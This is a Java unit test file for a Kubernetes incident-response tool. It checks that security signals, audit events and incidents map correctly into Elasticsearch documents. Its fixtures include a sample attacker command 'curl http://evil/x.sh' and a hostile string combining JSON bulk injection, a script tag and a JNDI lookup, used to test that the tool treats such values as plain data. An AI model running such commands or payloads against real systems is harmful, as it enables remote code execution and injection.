package io.kordon.elasticsearch;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.kordon.avro.Incident;
import io.kordon.avro.IncidentStatus;
import io.kordon.avro.OnFailure;
import io.kordon.avro.Pod;
import io.kordon.avro.PodContext;
import io.kordon.avro.Source;
import io.kordon.avro.Step;
import io.kordon.avro.StepStatus;
import io.kordon.elasticsearch.Document.Write;
import java.io.IOException;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Stream;
import org.apache.avro.specific.SpecificRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class DocumentsTest {
    private static final Instant NOW = Instant.parse("2026-11-24T12:00:00Z");
    private final Documents documents = new Documents("kordon-", Clock.fixed(NOW, ZoneOffset.UTC));

    @Test
    void incidentIsReplacedByItsRevision() {
        Document document = documents.of(Records.incident("i1", 7).build());
        assertThat(document.index()).isEqualTo("kordon-incidents");
        assertThat(document.id()).isEqualTo("i1");
        assertThat(document.write()).isEqualTo(new Write.Replace(7));
    }

    @Test
    void incidentSpeaksEcsAndKeepsTheRestUnderKordon() throws IOException {
        JsonNode json = json(Records.incident("i1", 7).build());
        assertThat(json.at("/@timestamp").asText()).isEqualTo("2026-11-24T10:01:01.123456Z");
        assertThat(json.at("/ecs/version").asText()).isEqualTo(Ecs.VERSION);
        assertThat(json.at("/event/kind").asText()).isEqualTo("alert");
        assertThat(json.at("/event/dataset").asText()).isEqualTo("kordon.incidents");
        assertThat(json.at("/event/severity").asLong()).isEqualTo(99);
        assertThat(json.at("/event/risk_score").asDouble()).isEqualTo(99.1);
        assertThat(json.at("/event/start").asText()).isEqualTo("2026-11-24T10:00:00.123456Z");
        assertThat(json.at("/event/end").asText()).isEqualTo("2026-11-24T10:10:00.123456Z");
        assertThat(json.at("/event/ingested").asText()).isEqualTo("2026-11-24T12:00:00Z");
        assertThat(json.at("/orchestrator/type").asText()).isEqualTo("kubernetes");
        assertThat(json.at("/orchestrator/cluster/name").asText()).isEqualTo("demo");
        assertThat(json.at("/orchestrator/namespace").asText()).isEqualTo("tomcat");
        assertThat(json.at("/orchestrator/resource/type").asText()).isEqualTo("pod");
        assertThat(json.at("/orchestrator/resource/name").asText()).isEqualTo("tomcat-1");
        assertThat(json.at("/orchestrator/resource/id").asText()).isEqualTo(Records.UID);
        assertThat(json.at("/orchestrator/resource/parent/type").asText()).isEqualTo("Deployment");
        assertThat(json.at("/kordon/workload/kind").asText()).isEqualTo("Deployment");
        assertThat(json.at("/kordon/workload/name").asText()).isEqualTo("tomcat");
        assertThat(json.at("/container/id").asText()).isEqualTo("0123456789abcdef");
        assertThat(json.at("/container/image/name").asText()).isEqualTo("registry.example:5000/team/tomcat");
        assertThat(json.at("/container/image/tag").asText()).isEqualTo("9.0");
        assertThat(json.at("/container/security_context/privileged").asBoolean())
                .isTrue();
        assertThat(json.at("/host/name").asText()).isEqualTo("worker-1");
        assertThat(json.at("/threat/framework").asText()).isEqualTo("MITRE ATT&CK");
        assertThat(texts(json.at("/threat/tactic/id"))).containsExactly("TA0002", "TA0040");
        assertThat(texts(json.at("/threat/technique/id"))).containsExactly("T1190", "T1059");
        assertThat(texts(json.at("/threat/technique/subtechnique/id"))).containsExactly("T1059.004");
        assertThat(json.at("/kordon/revision").asLong()).isEqualTo(7);
        assertThat(json.at("/kordon/phase").asText()).isEqualTo("resolution");
        assertThat(json.at("/kordon/status").asText()).isEqualTo("contained");
        assertThat(json.at("/kordon/uid").asText()).isEqualTo(Records.UID);
        assertThat(json.at("/kordon/pod/labels/app.kubernetes.io~1name").asText())
                .isEqualTo("tomcat");
        assertThat(json.at("/kordon/contributions/0/weight").asDouble()).isEqualTo(99);
        assertThat(json.at("/kordon/evidence/0/original").asText()).isEqualTo(Records.CURL);
        assertThat(json.at("/kordon/evidence_omitted").asLong()).isEqualTo(3);
        assertThat(json.at("/kordon/timeline/contained_at").asText()).isEqualTo("2026-11-24T10:01:03.123456Z");
        assertThat(json.at("/kordon/commands/0/steps/0/status").asText()).isEqualTo("done");
        assertThat(json.at("/kordon/contributions/0/playbook").asText()).isEqualTo("contain-pod");
        assertThat(json.at("/kordon/decisions/0/action").asText()).isEqualTo("approve");
        assertThat(json.at("/kordon/decisions/0/by").asText()).isEqualTo("ada");
        assertThat(json.at("/kordon/decisions/0/at").asText()).isEqualTo("2026-11-24T10:01:02.123456Z");
    }

    @ParameterizedTest
    @EnumSource(IncidentStatus.class)
    void everyStatusOfAnIncidentIsSaidInItsOwnWord(IncidentStatus status) throws IOException {
        JsonNode json = json(Records.incident("i1", 7).setStatus(status).build());
        assertThat(json.at("/kordon/status").asText()).isEqualTo(status.name().toLowerCase(Locale.ROOT));
        assertThat(json.at("/event/action").asText()).isEqualTo(status.name().toLowerCase(Locale.ROOT));
    }

    @Test
    void aPodOfWhichNoWorkloadIsKnownHasItsControllerAsParentAndABarePodNone() throws IOException {
        PodContext controller =
                PodContext.newBuilder(Records.context()).setWorkload(null).build();
        JsonNode json = json(Records.signal("s1").setContext(controller).build());
        assertThat(json.at("/orchestrator/resource/parent/type").asText()).isEqualTo("ReplicaSet");
        assertThat(json.at("/kordon/workload/name").asText()).isEqualTo("tomcat-89bb");

        PodContext bare = PodContext.newBuilder(controller).setOwners(List.of()).build();
        json = json(Records.signal("s1").setContext(bare).build());
        assertThat(json.at("/orchestrator/resource/parent").isMissingNode()).isTrue();
        assertThat(json.at("/kordon/workload").isMissingNode()).isTrue();
    }

    @Test
    void signalTellsWhatItsRuleAsksForAndWhatCorrelationsCompare() throws IOException {
        JsonNode json = json(Records.signal("s1").build());
        assertThat(json.at("/kordon/playbook").asText()).isEqualTo("contain-pod");
        assertThat(json.at("/kordon/alerts").isBoolean()).isTrue();
        assertThat(json.at("/kordon/alerts").asBoolean()).isFalse();
        assertThat(json.at("/kordon/values/proc.name").asText()).isEqualTo("curl");
    }

    @Test
    void matchOfACorrelationIsASignalWithoutASendersWords() throws IOException {
        JsonNode json = json(Records.correlation("s1").build());
        assertThat(json.at("/kordon/source").asText()).isEqualTo("correlation");
        assertThat(json.at("/event/provider").asText()).isEqualTo("kordon");
        assertThat(json.at("/event/original").isMissingNode()).isTrue();
        assertThat(json.at("/message").asText()).isEqualTo("Many failed logins, then a shell");
        assertThat(texts(json.at("/event/category"))).containsExactly("intrusion_detection");
    }

    @Test
    void containerWhosePodIsUnknownIsTheResource() throws IOException {
        JsonNode json = json(Records.correlation("s1").build());
        assertThat(json.at("/orchestrator/resource/type").asText()).isEqualTo("container");
        assertThat(json.at("/orchestrator/resource/id").asText()).isEqualTo("0123456789ab");
        assertThat(json.at("/orchestrator/resource/name").isMissingNode()).isTrue();
        assertThat(json.at("/container/id").asText()).isEqualTo("0123456789ab");
        assertThat(json.at("/kordon/entity/kind").asText()).isEqualTo("container");
        assertThat(json.at("/host/name").asText()).isEqualTo("worker-1");
    }

    @Test
    void namesThatAnAttackerChoseStayBelowOneFieldAndAreBounded() throws IOException {
        String name = "a.b.c\0" + "n".repeat(40_000);
        JsonNode json = json(Records.signal("s1").setValues(Map.of(name, "v")).build());
        assertThat(json.at("/kordon/values").properties()).singleElement().satisfies(field -> {
            assertThat(field.getKey()).startsWith("a.b.c\uFFFDn").hasSize(1_024);
            assertThat(field.getValue().asText()).isEqualTo("v");
        });
    }

    @Test
    void signalOfFalcoTellsProcessUserAndAddress() throws IOException {
        Document document = documents.of(Records.signal("s1").build());
        assertThat(document.index()).isEqualTo("kordon-signals");
        assertThat(document.write()).isEqualTo(new Write.Create());

        JsonNode json = json(Records.signal("s1").build());
        assertThat(json.at("/event/original").asText()).isEqualTo(Records.CURL);
        assertThat(json.at("/event/action").asText()).isEqualTo("RCE in Tomcat");
        assertThat(json.at("/event/provider").asText()).isEqualTo("falco");
        assertThat(texts(json.at("/event/category"))).containsExactly("intrusion_detection", "process");
        assertThat(json.at("/process/name").asText()).isEqualTo("curl");
        assertThat(json.at("/process/command_line").asText()).isEqualTo("curl http://evil/x.sh");
        assertThat(json.at("/process/executable").asText()).isEqualTo("/usr/bin/curl");
        assertThat(json.at("/process/parent/name").asText()).isEqualTo("java");
        assertThat(json.at("/process/pid").asLong()).isEqualTo(4711);
        assertThat(json.at("/user/name").asText()).isEqualTo("tomcat");
        assertThat(json.at("/destination/ip").asText()).isEqualTo("203.0.113.7");
        assertThat(json.at("/observer/hostname").asText()).isEqualTo("worker-1");
        assertThat(texts(json.at("/related/user"))).containsExactly("tomcat");
        assertThat(texts(json.at("/threat/tactic/name"))).containsExactly("Execution", "Lateral Movement");
        assertThat(json.at("/rule/uuid").asText()).isEqualTo("0b3c6a2e-44b0-4a58-8f43-59d9a1a5b001");
    }

    @Test
    void signalOfTheAuditLogTellsWhoAskedFromWhere() throws IOException {
        JsonNode json = json(Records.signal("s1")
                .setSource(Source.AUDIT)
                .setOriginal(Records.EXEC)
                .build());
        assertThat(json.at("/user/name").asText()).isEqualTo("mallory");
        assertThat(json.at("/source/ip").asText()).isEqualTo("198.51.100.4");
        assertThat(texts(json.at("/related/ip"))).containsExactly("198.51.100.4", "10.0.0.1");
        assertThat(texts(json.at("/related/user"))).containsExactly("mallory", "admin");
        assertThat(json.at("/user_agent/original").asText()).isEqualTo("kubectl/v1.31");
        assertThat(json.at("/event/outcome").asText()).isEqualTo("success");
        assertThat(texts(json.at("/event/type"))).containsExactly("creation", "allowed");
    }

    @Test
    void signalTellsTheSameWhateverItsEventWasWrappedIn() throws IOException {
        JsonNode shipped = json(Records.signal("s1")
                .setSource(Source.AUDIT)
                .setOriginal("{\"host\":\"not the caller\",\"message\":" + Records.EXEC + "}")
                .build());
        assertThat(shipped.at("/user/name").asText()).isEqualTo("mallory");
        assertThat(shipped.at("/source/ip").asText()).isEqualTo("198.51.100.4");
        JsonNode google = json(Records.signal("s2")
                .setSource(Source.AUDIT)
                .setOriginal("{\"insertId\":\"i\",\"protoPayload\":{\"methodName\":\"io.k8s.core.v1.pods.create\","
                        + "\"authenticationInfo\":{\"principalEmail\":\"eve@example.com\"},\"status\":{\"code\":7}}}")
                .build());
        assertThat(google.at("/user/name").asText()).isEqualTo("eve@example.com");
        assertThat(google.at("/event/outcome").asText()).isEqualTo("failure");
        JsonNode falco = json(Records.signal("s3")
                .setSource(Source.FALCO)
                .setOriginal("{\"log\":\"{\\\"rule\\\":\\\"r\\\",\\\"hostname\\\":\\\"worker-1\\\"}\\n\"}")
                .build());
        assertThat(falco.at("/observer/hostname").asText()).isEqualTo("worker-1");
        JsonNode recorded = json(Records.signal("s4")
                .setSource(Source.PROMETHEUS)
                .setOriginal("{\"data\":{\"alertCreated\":{\"alert\":{\"name\":\"PodMemoryAbove2GiB\"}}}}")
                .build());
        assertThat(recorded.at("/event/action").asText()).isEqualTo("PodMemoryAbove2GiB");
    }

    @Test
    void alertThatStillFiresHasNoEnd() throws IOException {
        JsonNode json = json(Records.signal("s1")
                .setSource(Source.PROMETHEUS)
                .setOpen(true)
                .setOriginal("{\"labels\":{\"alertname\":\"PodMemoryAbove2GiB\"}}")
                .build());
        assertThat(json.at("/event/end").isMissingNode()).isTrue();
        assertThat(json.at("/event/action").asText()).isEqualTo("PodMemoryAbove2GiB");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "{",
                "[1,2",
                "null",
                "\"text\"",
                "{\"output_fields\":7,\"rule\":{\"a\":1}}",
                "{\"output_fields\":{\"proc.name\":null,\"proc.pid\":1e99,\"user.name\":[\"x\"],\"fd.cip\":\"not an"
                        + " ip\"}}",
                "{\"output_fields\":{\"proc.name\":\"half \\ud800 pair\"}}"
            })
    void originalThatCannotBeReadStillMakesADocument(String original) throws IOException {
        for (Source source : Source.values()) {
            JsonNode json = json(
                    Records.signal("s1").setSource(source).setOriginal(original).build());
            assertThat(json.at("/event/id").asText()).isEqualTo("s1");
            assertThat(json.at("/source/ip").isMissingNode()).isTrue();
        }
    }

    @Test
    void nestingBeyondTheParsersBoundStillMakesADocument() throws IOException {
        String deep = "[".repeat(100_000);
        JsonNode json = json(Records.signal("s1").setOriginal(deep).build());
        assertThat(json.at("/event/original").asText()).hasSize(100_000);
    }

    @Test
    void valuesAreDataWhateverTheyHold() throws IOException {
        String hostile = "\"},{\"index\":{}}\n\u0000\u001b[31m<script>${jndi:ldap://x}";
        JsonNode json = json(Records.incident("i1", 1).setTitle(hostile).build());
        assertThat(json.at("/kordon/title").asText()).isEqualTo(hostile);
        assertThat(documents
                        .of(Records.incident("i1", 1).setTitle(hostile).build())
                        .json())
                .satisfies(body -> assertThat(new String(body.asInputStream().readAllBytes(), UTF_8))
                        .doesNotContain("\n"));
    }

    @Test
    void timesBeyondFourDigitYearsAreBounded() throws IOException {
        JsonNode json = json(Records.signal("s1")
                .setStart(Instant.parse("-200000-01-01T00:00:00Z"))
                .setEnd(Instant.parse("+200000-01-01T00:00:00Z"))
                .build());
        assertThat(json.at("/event/start").asText()).isEqualTo("0001-01-01T00:00:00Z");
        assertThat(json.at("/event/end").asText()).startsWith("9999-12-31");
    }

    @Test
    void resultsAreNamedByCommandAndStep() throws IOException {
        assertThat(documents.of(Records.result("c1", 2).build()).id()).isEqualTo("c1/2");
        assertThat(documents.of(Records.result("c1", -1).build()).id()).isEqualTo("c1/run");
        JsonNode json =
                json(Records.result("c1", 2).setStatus(StepStatus.REFUSED).build());
        assertThat(json.at("/event/outcome").asText()).isEqualTo("failure");
        assertThat(json.at("/event/action").asText()).isEqualTo("isolate");
        assertThat(json.at("/kordon/incident_id").asText()).isEqualTo("i1");
        assertThat(json.at("/kordon/observed/policy").asText()).isEqualTo("kordon-isolate");
    }

    @Test
    void tellsThatARunWaitsBesideWhatCameOfIt() throws IOException {
        var waiting = Records.result("c1", -1)
                .setStatus(StepStatus.WAITING)
                .setDetail("the budget of the cluster is used up")
                .build();
        assertThat(documents.of(waiting).id()).isEqualTo("c1/run/waiting");
        JsonNode json = json(waiting);
        assertThat(json.at("/event/outcome").asText()).isEqualTo("unknown");
        assertThat(json.at("/kordon/status").asText()).isEqualTo("waiting");
        assertThat(json.at("/event/reason").asText()).isEqualTo("the budget of the cluster is used up");
    }

    @Test
    void tellsOfACommandAgainWhenItWasApproved() throws IOException {
        assertThat(documents.of(Records.command("c1").build()).id()).isEqualTo("c1");
        var approved = Records.command("c1").setApproval(Records.approval()).build();
        assertThat(documents.of(approved).id()).isEqualTo("c1/dec-1");
        JsonNode json = json(approved);
        assertThat(json.at("/kordon/command_id").asText()).isEqualTo("c1");
        assertThat(json.at("/kordon/approval/by").asText()).isEqualTo("ada");
        assertThat(json.at("/kordon/approval/decision_id").asText()).isEqualTo("dec-1");
        assertThat(texts(json.at("/kordon/sources"))).containsExactly("falco", "prometheus");
        assertThat(json.at("/kordon/workload/name").asText()).isEqualTo("tomcat");
        assertThat(json.at("/orchestrator/resource/parent/type").asText()).isEqualTo("Deployment");
    }

    @Test
    void incidentTellsOfApprovalReleaseEvidenceAndFindings() throws IOException {
        JsonNode json = json(Records.incident("i1", 7).build());
        JsonNode command = json.at("/kordon/commands/0");
        assertThat(command.at("/approval/by").asText()).isEqualTo("ada");
        assertThat(command.at("/issued_at").asText()).isEqualTo("2026-11-24T10:01:02.123456Z");
        assertThat(command.at("/release_after_ms").asLong()).isEqualTo(3_600_000);
        assertThat(command.at("/release_at").asText()).isEqualTo("2026-11-24T11:01:03.123456Z");
        assertThat(command.at("/steps/0/parameters/allow").asText()).isEqualTo("dns");
        assertThat(command.at("/steps/0/on_failure").asText()).isEqualTo("continue");
        assertThat(command.at("/steps/0/changed").asBoolean()).isTrue();
        assertThat(json.at("/kordon/bundles/0/location").asText()).isEqualTo("s3://evidence/i1/c1/");
        assertThat(json.at("/kordon/bundles/0/digest").asText()).isEqualTo("a".repeat(64));
        assertThat(json.at("/kordon/findings/0/path").asText()).isEqualTo("/tmp/xmrig");
        assertThat(json.at("/kordon/findings/0/level").asText()).isEqualTo("critical");
        assertThat(json.at("/kordon/findings_omitted").asLong()).isEqualTo(4);
        assertThat(texts(json.at("/related/hash"))).containsExactly("c".repeat(64));
    }

    @Test
    void incidentTellsItsTimesAndCountsAsNumbersThatADashboardCanAverage() throws IOException {
        JsonNode json = json(Records.incident("i1", 7).build());
        assertThat(json.at("/kordon/timeline/detect_ms").asLong()).isEqualTo(61_000);
        assertThat(json.at("/kordon/timeline/contain_ms").asLong()).isEqualTo(2_000);
        assertThat(json.at("/kordon/timeline/close_ms").asLong()).isEqualTo(539_000);
        assertThat(json.at("/kordon/evidence_count").asLong()).isEqualTo(4);
        assertThat(json.at("/kordon/commands_waiting").asLong()).isZero();
        assertThat(texts(json.at("/kordon/playbooks"))).containsExactly("contain-pod");

        Incident.Builder open = Records.incident("i1", 8);
        open.getTimeline().setContainedAt(null);
        open.getTimeline().setFirstEvidenceAt(Records.T.plusSeconds(90));
        open.getCommands().get(0).setStatus(StepStatus.WAITING);
        json = json(open.build());
        assertThat(json.at("/kordon/timeline/contain_ms").isMissingNode()).isTrue();
        assertThat(json.at("/kordon/timeline/detect_ms").asLong())
                .as("a clock that runs ahead makes no negative time")
                .isZero();
        assertThat(json.at("/kordon/commands_waiting").asLong()).isEqualTo(1);
    }

    @Test
    void documentsTellHowLateTheyCome() throws IOException {
        JsonNode json = json(Records.signal("s1").build());
        assertThat(json.at("/kordon/lag/sender_ms").asLong()).isEqualTo(1_000);
        assertThat(json.at("/kordon/lag/sink_ms").asLong())
                .isEqualTo(Duration.between(Records.T.plusSeconds(1), NOW).toMillis());
    }

    @Test
    void timesFarBeyondEachOtherHaveALongestDistance() {
        assertThat(Documents.between(Instant.MIN, Instant.MAX)).isEqualTo(Long.MAX_VALUE);
    }

    @Test
    void boundsFindingsAndCountsTheRest() throws IOException {
        JsonNode json = json(Records.incident("i1", 7)
                .setFindings(Collections.nCopies(150, Records.finding("/tmp/a")))
                .build());
        assertThat(json.at("/kordon/findings")).hasSize(100);
        assertThat(json.at("/kordon/findings_omitted").asLong()).isEqualTo(54);
    }

    @Test
    void resultTellsWhereItsEvidenceIs() throws IOException {
        JsonNode json = json(Records.result("c1", 0).setBundle(Records.bundle()).build());
        assertThat(json.at("/kordon/bundle/location").asText()).isEqualTo("s3://evidence/i1/c1/");
        assertThat(json.at("/kordon/bundle/files").asLong()).isEqualTo(12);
        assertThat(json.at("/kordon/bundle/missing").asLong()).isEqualTo(1);
    }

    @Test
    void refusesARecordWithoutId() {
        assertThatThrownBy(() -> documents.of(Records.signal("").build())).isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> documents.of(new Pod())).hasMessageContaining("io.kordon.avro.Pod");
    }

    static Stream<SpecificRecord> everyRecord() {
        return Stream.of(
                Records.incident("i1", 1).build(),
                Records.signal("s1").build(),
                Records.signal("s2")
                        .setSource(Source.AUDIT)
                        .setOriginal(Records.EXEC)
                        .setAlertId("a")
                        .build(),
                Records.signal("s3").setSource(Source.PROMETHEUS).build(),
                Records.correlation("s4").build(),
                Records.signal("s5").setOriginal(Records.SHELL).build(),
                Records.command("c1")
                        .setApproval(Records.approval())
                        .setSteps(List.of(Step.newBuilder()
                                .setAction("isolate")
                                .setParameters(Map.of("allow", "dns"))
                                .setTimeoutMillis(30_000)
                                .setOnFailure(OnFailure.CONTINUE)
                                .build()))
                        .build(),
                Records.result("c1", 0).setBundle(Records.bundle()).build());
    }

    @ParameterizedTest
    @MethodSource("everyRecord")
    void everyWrittenFieldHasAMapping(SpecificRecord record) throws IOException {
        ObjectNode mapping = Json.MAPPER.createObjectNode();
        for (String component : Templates.COMPONENTS) {
            mapping.setAll((ObjectNode) Templates.resource(component).at("/template/mappings/properties"));
        }
        for (Document document : documents.all(record)) {
            assertMapped("", Json.MAPPER.readTree(document.json().asInputStream()), mapping);
        }
    }

    private static void assertMapped(String path, JsonNode json, JsonNode properties) {
        for (Map.Entry<String, JsonNode> field : json.properties()) {
            JsonNode mapping = properties.path(field.getKey());
            assertThat(mapping.isObject())
                    .as("mapping of %s", path + field.getKey())
                    .isTrue();
            if (mapping.path("type").asText().equals("flattened")) {
                continue;
            }
            for (JsonNode value : field.getValue().isArray() ? field.getValue() : List.of(field.getValue())) {
                assertThat(value.isObject())
                        .as("%s is an object", path + field.getKey())
                        .isEqualTo(mapping.has("properties"));
                assertMapped(path + field.getKey() + ".", value, mapping.path("properties"));
            }
        }
    }

    private JsonNode json(SpecificRecord record) throws IOException {
        return Json.MAPPER.readTree(documents.of(record).json().asInputStream());
    }

    private static List<String> texts(JsonNode array) {
        return array.valueStream().map(JsonNode::asText).toList();
    }
}
